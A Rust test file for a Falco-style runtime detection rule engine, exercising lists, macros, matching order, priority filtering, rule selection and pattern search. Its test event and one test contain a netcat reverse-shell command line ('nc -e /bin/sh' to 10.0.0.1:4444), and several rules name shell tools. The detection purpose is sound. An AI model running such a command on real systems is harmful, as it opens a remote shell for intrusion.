//! Macros, lists, order, selection.

use super::{
    Options, Scratch, complaints, matches, netcat, rule, rules, rules_with, verdict, with_event,
};
use crate::{Matching, Priority, Select, Selection};

#[test]
fn macros_and_lists_stand_for_what_they_are() {
    let text = "
- list: shells
  items: [bash, zsh]
- list: tools
  items: [shells, nc, 'n c']
- macro: spawned_process
  condition: (evt.type in (execve, execveat))
- macro: tool
  condition: spawned_process and proc.name in (tools)
- rule: tool
  desc: d
  condition: tool and not proc.name in (shells, ash)
  output: o
  priority: INFO
";
    assert_eq!(matches(&rules(text), &netcat()), ["tool"]);
}

#[test]
fn an_empty_list_has_no_item() {
    let text = format!(
        "- list: none\n  items: []\n{}",
        rule("r", "proc.name in (none, nc)")
    );
    assert_eq!(matches(&rules(&text), &netcat()), ["r"]);
    let text = format!(
        "- list: none\n  items: []\n{}",
        rule("r", "proc.name in (none)")
    );
    assert!(matches(&rules(&text), &netcat()).is_empty());
}

#[test]
fn a_list_of_one_item_can_be_a_value() {
    let text = format!(
        "- list: one\n  items: [nc]\n{}",
        rule("r", "proc.name = one")
    );
    assert_eq!(matches(&rules(&text), &netcat()), ["r"]);
}

#[test]
fn a_modifier_takes_the_name_of_a_list() {
    for (condition, matching) in [
        ("proc.name startswith anyof tools", true),
        ("proc.name startswith allof tools", false),
        ("proc.name startswith anyof (tools, x)", true),
        ("proc.name = anyof or proc.name = nc", true),
        ("proc.name = anyof", false),
    ] {
        let list = "- list: tools\n  items: [n, zs]\n";
        let text = list.to_owned() + &rule("r", condition);
        assert_eq!(
            !matches(&rules(&text), &netcat()).is_empty(),
            matching,
            "{condition}"
        );
    }
}

#[test]
fn the_first_rule_wins_or_all_do() {
    let text =
        rule("a", "proc.name = x") + &rule("b", "proc.name = nc") + &rule("c", "proc.pid > 0");
    assert_eq!(matches(&rules(&text), &netcat()), ["b"]);
    let all = Options {
        matching: Matching::All,
        ..Options::default()
    };
    assert_eq!(matches(&rules_with(&text, &all), &netcat()), ["b", "c"]);
}

#[test]
fn rules_below_the_priority_are_not_loaded() {
    let text = rule("a", "proc.pid > 0") + &rule("b", "proc.pid > 0").replace("DEBUG", "notice");
    let options = Options {
        priority: Priority::Notice,
        ..Options::default()
    };
    let set = rules_with(&text, &options);
    assert_eq!(set.rules().len(), 1);
    assert_eq!(matches(&set, &netcat()), ["b"]);
}

#[test]
fn the_selection_switches_rules_in_order() {
    let tagged = rule("one two", "proc.pid > 0") + "  tags: [t]\n";
    let text = tagged + &rule("b", "proc.pid > 0");
    let select = |enable, select| Selection { enable, select };
    let options = Options {
        matching: Matching::All,
        selection: vec![
            select(false, Select::Name("*".into())),
            select(true, Select::Tag("t".into())),
        ],
        ..Options::default()
    };
    assert_eq!(
        matches(&rules_with(&text, &options), &netcat(),),
        ["one two"]
    );
}

#[test]
fn many_patterns_are_found_at_once_as_one_by_one() {
    let words = [
        "nc", "sh 10", "-e", "zzz", "4444", "NC", "10.0.0.1", "bin/s",
    ];
    for word in words {
        let others: Vec<_> = words
            .iter()
            .map(|w| format!("proc.cmdline contains \"{w}\""))
            .collect();
        let wanted = format!("proc.cmdline contains \"{word}\"");
        let text = rule("wanted", &wanted) + &rule("others", &others.join(" or "));
        let got = matches(&rules(&text), &netcat());
        let there = "nc -e /bin/sh 10.0.0.1 4444".contains(word);
        assert_eq!(got, [if there { "wanted" } else { "others" }], "{word}");
    }
}

#[test]
fn one_scratch_serves_any_number_of_rule_sets_and_events() {
    let sets = [
        rules(&rule("a", "proc.name = nc")),
        rules(&rule("b", "proc.pid > 0 and proc.name != nc")),
    ];
    let mut scratch = Scratch::default();
    for _ in 0..3 {
        for (set, expected) in sets.iter().zip([1, 0]) {
            let mut count = 0;
            with_event(&netcat(), |event| {
                set.evaluate(&mut scratch, event, &mut |_| count += 1);
            });
            assert_eq!(count, expected);
        }
    }
}

#[test]
fn a_set_can_be_shared_and_sent() {
    fn is_shared<T: Send + Sync + 'static>(_: &T) {}
    is_shared(&rules(&rule("a", "proc.name = nc")));
}

#[test]
fn a_field_whose_name_has_the_argument_in_it_takes_none() {
    let [with, without] = ["proc.env[HOME] = HOME", "proc.env.HOME = HOME"];
    assert!(verdict(with, &netcat()) && verdict(without, &netcat()));
    let complaint = complaints(&[&rule("r", "proc.env.HOME[X] = X")]);
    assert!(complaint.contains("takes no argument"), "{complaint}");
}
